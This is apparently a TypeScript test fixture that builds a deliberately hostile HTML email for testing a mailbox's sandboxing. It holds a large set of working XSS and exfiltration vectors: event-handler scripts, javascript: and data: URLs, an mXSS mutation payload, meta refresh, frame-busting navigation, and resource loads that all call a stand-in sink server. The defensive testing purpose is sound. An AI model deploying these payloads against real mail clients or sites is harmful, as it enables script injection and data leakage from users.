/**
 * A message that tries what messages try: to run script, to reach the page around it, to load something, to leave its
 * frame. Each attack names itself in what it would do, so that a test sees which one got through.
 *
 * @param sink a server that must not be asked
 * @param page the mailbox
 */
export function hostileHtml(sink: string, page: string): string {
  const run = (name: string): string =>
    `try{parent.document.title='${name}'}catch(e){};try{top.location='${sink}/top-${name}'}catch(e){};fetch('${sink}/fetch-${name}');alert('${name}')`;
  return `<!doctype html>
<html onmouseenter="${run("html")}">
<head>
<base href="${sink}/base/">
<meta http-equiv="refresh" content="0;url=${sink}/meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="${sink}/stylesheet.css">
<link rel="preload" as="image" href="${sink}/preload.png">
<link rel="prefetch" href="${sink}/prefetch">
<link rel="modulepreload" href="${sink}/modulepreload.js">
<link rel="preconnect" href="${sink}">
<link rel="dns-prefetch" href="${sink}">
<link rel="icon" href="${sink}/icon.png">
<link rel="manifest" href="${sink}/manifest.json">
<link rel="import" href="${sink}/import.html">
<style>@import url("${sink}/import.css"); @font-face{font-family:x;src:url("${sink}/font.woff2")}
body{font-family:x;background:url("${sink}/background.png")} a[href^="h"]{background:url("${sink}/selector.png")}</style>
<script>${run("script")}</script>
<script src="${sink}/script.js"></script>
<script type="module">${run("module")}</script>
<script type="speculationrules">{"prefetch":[{"urls":["${sink}/speculation"]}]}</script>
</head>
<body onload="${run("body-load")}" background="${sink}/body-background.png">
<img src="${sink}/img.png" srcset="${sink}/srcset.png 2x" onerror="${run("img-error")}" alt="">
<picture><source srcset="${sink}/picture.png"><img src="data:," onerror="${run("picture-error")}" alt=""></picture>
<input type="image" src="${sink}/input-image.png" alt="">
<table background="${sink}/table.png"><tr><td background="${sink}/td.png">x</td></tr></table>
<svg onload="${run("svg-load")}"><script>${run("svg-script")}</script><image href="${sink}/svg-image.png"/><use href="${sink}/use.svg#a"/>
<animate onbegin="${run("svg-animate")}" attributeName="x" dur="1s"/><foreignObject><iframe src="${sink}/foreign"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("mutation").replaceAll("'", "&#39;")}&gt;"></math>
<iframe src="${sink}/iframe"></iframe>
<iframe src="${page}"></iframe>
<iframe srcdoc="<script>${run("srcdoc").replaceAll('"', "&quot;")}</script>"></iframe>
<iframe src="javascript:${run("iframe-js")}"></iframe>
<object data="${sink}/object"></object><embed src="${sink}/embed">
<object data="data:text/html,<script>alert('object')</script>"></object>
<video src="${sink}/video.mp4" poster="${sink}/poster.png" autoplay onerror="${run("video")}"><track src="${sink}/track.vtt" default></video>
<audio src="${sink}/audio.mp3" autoplay></audio>
<details open ontoggle="${run("toggle")}"><summary>x</summary></details>
<input autofocus onfocus="${run("focus")}">
<marquee onstart="${run("marquee")}">x</marquee>
<div style="background:url(${sink}/style-attribute.png);width:expression(alert('expression'));behavior:url(${sink}/behavior.htc)">x</div>
<template shadowrootmode="open"><script>${run("shadow")}</script><img src="${sink}/shadow.png" alt=""></template>
<form id="form" action="${sink}/form" method="post"><input name="a" value="b"><button id="submit">Submit</button>
<button id="formaction" formaction="javascript:${run("formaction")}">Action</button></form>
<p><a id="javascript" href="javascript:${run("link-js")}">javascript</a>
<a id="data" href="data:text/html,<script>alert('data')</script>">data</a>
<a id="top" target="_top" href="${sink}/link-top">top</a>
<a id="parent" target="_parent" href="${sink}/link-parent">parent</a>
<a id="self" target="_self" href="${sink}/link-self">self</a>
<a id="delete" target="_self" href="${page}api/messages">api</a>
<a id="blank" rel="opener" ping="${sink}/ping" href="${sink}/link-blank">blank</a></p>
<textarea></textarea><noscript><img src="${sink}/noscript.png" alt=""></noscript>
</body></html><!-- <plaintext> <style> </textarea>`;
}

/** What a person may click in it, with nothing coming of it. */
export const INERT = [
  "#submit",
  "#formaction",
  "#javascript",
  "#data",
  "#top",
  "#parent",
  "#self",
  "#delete",
];
